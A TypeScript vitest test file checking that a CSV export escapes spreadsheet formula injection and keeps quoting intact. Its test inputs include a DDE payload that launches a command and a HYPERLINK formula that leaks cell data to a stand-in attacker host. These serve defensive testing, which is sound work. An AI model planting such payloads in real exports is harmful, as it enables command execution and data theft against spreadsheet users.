// Can anything that stands in a table do harm in a spreadsheet, or break the table?

import { describe, expect, it } from 'vitest';
import { csv } from '../../../src/screening/worklist/csv.ts';

describe('a field that a spreadsheet would take for a formula gets an apostrophe', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\tharmless',
    ' =1',
    '\u00a0=1',
    '\u3000=1',
    '\ufeff=1',
    '\u200b=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM',
    '\u2212 1',
    '|calc',
    '%0A',
    '\n=cmd',
    '\0=1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.org?x="&A1)',
  ])('%j', (text) => {
    expect(csv([[text]])).toMatch(/^\ufeff"'/);
  });
});

it.each(['I3', '2026-06-01', 'S-7K3M9-QXD2B', '王小明', 'a=b', '12 mg', "'quoted'"])('%s stays as it is', (text) => {
  expect(csv([[text]])).toBe(`\ufeff"${text}"\r\n`);
});

/** A strict reader of RFC 4180, where every field is quoted. */
const read = (text: string): string[][] =>
  text
    .replace(/^\ufeff/, '')
    .match(/(?:"(?:[^"]|"")*"(?:,|\r\n))+?(?<=\r\n)/g)
    ?.map((line) =>
      [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, field = '']) => field.replaceAll('""', '"')),
    ) ?? [];

it('commas, quotes and line ends inside a field stay inside it', () => {
  const rows = [
    ['a,b', 'say "x"', 'two\r\nlines'],
    ['', '"', ',,'],
  ];
  expect(read(csv(rows))).toEqual(rows);
});
